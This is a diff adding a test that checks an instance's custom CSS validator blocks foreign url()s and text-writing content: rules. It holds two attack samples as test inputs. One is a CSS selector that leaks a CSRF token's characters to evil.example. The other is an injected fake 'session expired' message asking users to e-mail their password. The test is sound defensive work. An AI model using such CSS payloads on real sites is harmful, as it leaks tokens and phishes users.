@@ -266,4 +266,30 @@ describe('security: authentication', () => {
       expect((await users.register(asDefault, account('second'))).role).toBe(Role.InstanceUser);
     });
   });
+
+  describe('item 18: custom CSS can neither leak attribute values nor write fake messages', () => {
+    it('refuses foreign url()s and text-writing content:, allows the instance logo, and serves no older CSS that breaks the rules', async () => {
+      const host = `css-${Date.now().toString(36)}.test`;
+      const instance = await createInstance(t, { hosts: [host], logoUrl: 'https://cdn.example.com/acme.png' });
+      const admin = await createUser(t, { instanceId: instance.id, role: Role.InstanceAdmin });
+      const post = (body: object) => t.http().post('/api/Instance').set('Authorization', `Bearer ${admin.token}`).send(body);
+      const broken = async (body: object) => (await post(body).expect(422)).body.data.brokenRules;
+
+      expect(await broken({ customCss: 'input[name=csrf][value^="a"] { background: url(https://evil.example/leak?a) }' })).toEqual([
+        'VALIDATION.CUSTOM_CSS.UNSAFE_URL',
+      ]);
+      expect(await broken({ customCss: 'body::after { content: "Session expired: e-mail your password to help@evil.example" }' })).toEqual([
+        'VALIDATION.CUSTOM_CSS.CONTENT',
+      ]);
+      await post({ customCss: '.brand { background: url(https://cdn.example.com/acme.png) } .x::before { content: "" }' }).expect(200);
+      // A new logo cannot leave the old foreign URL behind in the CSS.
+      expect(await broken({ logoUrl: 'https://cdn.example.com/other.png' })).toEqual(['VALIDATION.CUSTOM_CSS.UNSAFE_URL']);
+
+      // CSS stored before these rules is left out when served.
+      const other = await createInstance(t, { hosts: [`legacy-${Date.now().toString(36)}.test`], customCss: 'b::after { content: "fake" } .ok { color: red }' });
+      const css = await t.http().get('/instance/styles.css').set('Host', other.hosts[0]).expect(200);
+      expect(css.text).toContain('--instance-color');
+      expect(css.text).not.toContain('fake');
+    });
+  });
 });
